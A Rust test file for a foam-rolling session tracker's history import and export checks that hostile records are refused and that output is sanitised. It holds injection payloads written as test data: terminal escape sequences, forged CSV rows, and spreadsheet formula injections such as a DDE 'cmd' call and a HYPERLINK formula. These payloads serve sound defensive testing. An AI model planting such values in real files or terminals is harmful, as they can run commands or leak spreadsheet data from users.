//! Hostile histories: imports refused record by record with their line numbers, files
//! that are not regular or too large refused whole, and text from an earlier history
//! that never reaches the terminal raw.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test and benchmark code

mod common;

use chrono::Datelike;
use common::{Sandbox, record, stderr, stdout};
use foamroll::session::{SessionRecord, Status};

fn line(r: &SessionRecord) -> String {
    serde_json::to_string(r).unwrap_or_else(|e| panic!("{e}"))
}

/// No escape, bell, C1 control or bidirectional override in what was printed.
fn assert_clean(what: &str, text: &str) {
    for c in text.chars() {
        assert!(
            !foamroll::text::forbidden_char(c),
            "{what} printed {c:?} raw:\n{text:?}"
        );
    }
}

#[test]
fn each_bad_record_is_refused_with_its_line_and_the_rest_imported() {
    let sb = Sandbox::new();
    let good = record("good", 1, Status::Completed);
    let mut escape = record("escape", 2, Status::Completed);
    escape.routine_name = "Post-run\u{1b}]0;pwned\u{7}\u{1b}[2J".into();
    let mut newline = record("newline", 3, Status::Completed);
    newline.routine_name = "a\nforged,row".into();
    let mut c1 = record("c1", 4, Status::Completed);
    c1.entries[0].zone = Some("outer\u{9b}31m".into());
    let mut tender = record("tender", 5, Status::Completed);
    tender.entries[0].tenderness = vec![3, 11];
    let mut old = record("old", 6, Status::Completed);
    old.started_at -= chrono::Duration::days(365 * 30);
    let mut future = record("future", 7, Status::Completed);
    future.started_at += chrono::Duration::days(365 * 80);
    future.ended_at = Some(future.started_at + chrono::Duration::seconds(60));
    let mut negative = record("negative", 8, Status::Completed);
    negative.ended_at = Some(negative.started_at - chrono::Duration::seconds(5));
    let mut long = record("long", 9, Status::Completed);
    long.ended_at = Some(long.started_at + chrono::Duration::hours(25));
    let mut hold = record("hold", 10, Status::Completed);
    hold.entries[0].hold_s = -3.0;
    let mut format = record("format", 11, Status::Completed);
    format.format = 7;
    let status = line(&record("status", 12, Status::Completed)).replace("completed", "paused");
    let lines = [
        line(&good),
        line(&escape),
        line(&newline),
        line(&c1),
        line(&tender),
        line(&old),
        line(&future),
        line(&negative),
        line(&long),
        line(&hold),
        line(&format),
        status,
        "{\"not\": \"a session\"}".to_string(),
    ];
    let file = sb.write("hostile.jsonl", &(lines.join("\n") + "\n"));
    let out = sb.run(&["history", "import", file.to_str().unwrap_or_default()]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert_eq!(stdout(&out), "imported 1 new, 0 updated, 0 already there\n");
    assert_clean("import", &(stdout(&out) + &err));
    for (n, why) in [
        (2, "routine name holds a control character"),
        (3, "routine name holds a control character"),
        (4, "zone holds a control character"),
        (5, "tenderness 11 is outside the 0-10 scale"),
        (6, "start year 1996 is not between 2000 and 2100"),
        (7, "start year 2106 is not between 2000 and 2100"),
        (8, "duration -5 is negative or longer than 24 hours"),
        (9, "duration 90000 is negative or longer than 24 hours"),
        (10, "hold time -3 is negative"),
        (11, "record format 7 is not known"),
        (12, "unknown variant `paused`"),
        (13, "missing field"),
    ] {
        assert!(
            err.contains(&format!("hostile.jsonl:{n}: refused: ")) && err.contains(why),
            "line {n}: {why}\n{err}"
        );
    }
    assert_eq!(err.lines().count(), 12, "{err}");
    let json = stdout(&sb.run(&["history", "--json"]));
    let kept: Vec<SessionRecord> = serde_json::from_str(&json).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(kept, vec![good]);
}

#[test]
fn a_json_export_reports_the_line_of_each_refused_record() {
    let sb = Sandbox::new();
    let mut bad = record("bad", 2, Status::Completed);
    bad.entries[0].tenderness = vec![12];
    let export = serde_json::to_string_pretty(&vec![record("a", 1, Status::Completed), bad])
        .unwrap_or_else(|e| panic!("{e}"));
    // The record's `{` is two lines above its id (after `"format"`); lines count from 1.
    let start_of_bad = export
        .lines()
        .position(|l| l.contains("\"bad\""))
        .unwrap_or(0)
        - 1;
    let file = sb.write("export.json", &export);
    let out = sb.run(&["history", "import", file.to_str().unwrap_or_default()]);
    assert_eq!(stdout(&out), "imported 1 new, 0 updated, 0 already there\n");
    assert!(
        stderr(&out).contains(&format!(
            "export.json:{start_of_bad}: refused: tenderness 12"
        )),
        "{}",
        stderr(&out)
    );
}

#[test]
fn files_that_are_not_histories_are_refused_whole() {
    let sb = Sandbox::new();
    let text = sb.write("notes.txt", "hello\x1b[2J\nworld\n");
    let out = sb.run(&["history", "import", text.to_str().unwrap_or_default()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("not a foamroll history"),
        "{}",
        stderr(&out)
    );
    assert_clean("import", &stderr(&out));

    // Larger than 256 MiB: refused from its size, never read (a sparse file).
    let big = sb.path().join("big.jsonl");
    let f = std::fs::File::create(&big).unwrap_or_else(|e| panic!("{e}"));
    f.set_len(257 * 1024 * 1024)
        .unwrap_or_else(|e| panic!("{e}"));
    let out = sb.run(&["history", "import", big.to_str().unwrap_or_default()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("it is larger than 256 MiB"),
        "{}",
        stderr(&out)
    );

    let dir = sb.path().join("a-folder");
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
    let out = sb.run(&["history", "import", dir.to_str().unwrap_or_default()]);
    assert!(
        stderr(&out).contains("it is a directory"),
        "{}",
        stderr(&out)
    );
}

#[cfg(unix)]
#[test]
fn a_fifo_or_a_symlink_given_to_import_is_refused_never_waited_on() {
    let sb = Sandbox::new();
    let fifo = sb.path().join("pipe.jsonl");
    common::mkfifo(&fifo);
    let started = std::time::Instant::now();
    let out = sb.run(&["history", "import", fifo.to_str().unwrap_or_default()]);
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("it is a FIFO"), "{}", stderr(&out));

    let real = sb.write(
        "real.jsonl",
        &(line(&record("a", 1, Status::Completed)) + "\n"),
    );
    let link = sb.path().join("link.jsonl");
    std::os::unix::fs::symlink(&real, &link).unwrap_or_else(|e| panic!("{e}"));
    let out = sb.run(&["history", "import", link.to_str().unwrap_or_default()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("it is a symbolic link"),
        "{}",
        stderr(&out)
    );
    let out = sb.run(&["history", "import", "/dev/zero"]);
    assert!(stderr(&out).contains("it is a device"), "{}", stderr(&out));
}

#[test]
fn text_from_an_earlier_history_never_reaches_the_terminal_raw() {
    // An earlier version kept whatever was imported: the migration keeps it too, and
    // every output filters it.
    let sb = Sandbox::new();
    let mut r = record("a", 1, Status::Completed);
    r.routine_name = "Evil\u{1b}]0;title\u{7}\u{1b}[2J\nsecond,row\u{9b}1m\u{202e}".into();
    r.entries[0].zone = Some("z\u{85}one".into());
    sb.write("data/history.jsonl", &(line(&r) + "\n"));

    let table = sb.run(&["history"]);
    assert_clean("table", &stdout(&table));
    assert_eq!(stdout(&table).lines().count(), 2, "{}", stdout(&table));

    let csv = stdout(&sb.run(&["history", "--csv"]));
    assert_clean("csv", &csv);
    assert_eq!(csv.lines().count(), 2, "no field can add a row:\n{csv}");

    let json = stdout(&sb.run(&["history", "--json"]));
    assert_clean("json", &json);
    assert!(json.contains("\\u009b") && json.contains("\\u0085") && json.contains("\\u202e"));
    let back: Vec<SessionRecord> = serde_json::from_str(&json).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        back[0].routine_name, r.routine_name,
        "the JSON still says the same"
    );

    let report = stdout(&sb.run(&["history", "report"]));
    assert_clean("report", &report);
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    // An imported history is anyone's text: a formula in a field must reach the CSV as
    // text, not as something a spreadsheet evaluates.
    let sb = Sandbox::new();
    let mut r = record("=cmd|' /C calc'!A0", 1, Status::Completed);
    r.routine_name = "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")".into();
    r.routine_id = "+1+1".into();
    r.entries[0].region = "@SUM(A1:A9)".into();
    r.entries[0].zone = Some("-2+3".into());
    r.entries[0].exercise_id = "quad, \"release\"".into();
    let file = sb.write(
        "evil.json",
        &serde_json::to_string(&vec![&r]).unwrap_or_default(),
    );
    let out = sb.run(&["history", "import", file.to_str().unwrap_or_default()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));

    let text = stdout(&sb.run(&["history", "--csv"]));
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap_or_else(|e| panic!("{e}")).clone();
    let rows: Vec<csv::StringRecord> = reader
        .records()
        .map(|r| r.unwrap_or_else(|e| panic!("{e}")))
        .collect();
    assert_eq!(rows.len(), 1, "{text}");
    let cell = |name: &str| {
        let i = header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("{name}"));
        rows[0][i].to_string()
    };
    assert_eq!(cell("session_id"), "'=cmd|' /C calc'!A0");
    assert_eq!(
        cell("routine_name"),
        "'=HYPERLINK(\"http://example.com/?\"&A1,\"click\")"
    );
    assert_eq!(cell("routine_id"), "'+1+1");
    assert_eq!(cell("region"), "'@SUM(A1:A9)");
    assert_eq!(cell("zone"), "'-2+3");
    // Not a formula: left alone, quoted by the CSV rules.
    assert_eq!(cell("exercise_id"), "quad, \"release\"");
    assert!(text.contains("\"quad, \"\"release\"\"\""), "{text}");
    // No cell of the output starts a formula.
    for (name, value) in header.iter().zip(rows[0].iter()) {
        assert!(!value.starts_with(['=', '+', '-', '@']), "{name} = {value}");
    }
}

#[test]
fn an_import_with_dates_in_the_future_warns_and_keeps_them() {
    let sb = common::Sandbox::new();
    let mut late = common::record("from-2100", 1, foamroll::session::Status::Completed);
    late.started_at = late.started_at.with_year(2100).unwrap();
    late.ended_at = Some(late.started_at + chrono::Duration::minutes(10));
    let ok = common::record("normal", 2, foamroll::session::Status::Completed);
    let text = [late, ok]
        .iter()
        .map(|r| serde_json::to_string(r).unwrap())
        .collect::<Vec<_>>()
        .join("\n");
    let file = sb.write("in.jsonl", &text);
    let out = sb.run(&["history", "import", file.to_str().unwrap()]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    let err = common::stderr(&out);
    assert!(err.contains("from-2100 starts on 2100-"), "{err}");
    assert!(err.contains("after now"), "{err}");
    assert!(common::stdout(&out).contains("imported 2 new"));
}
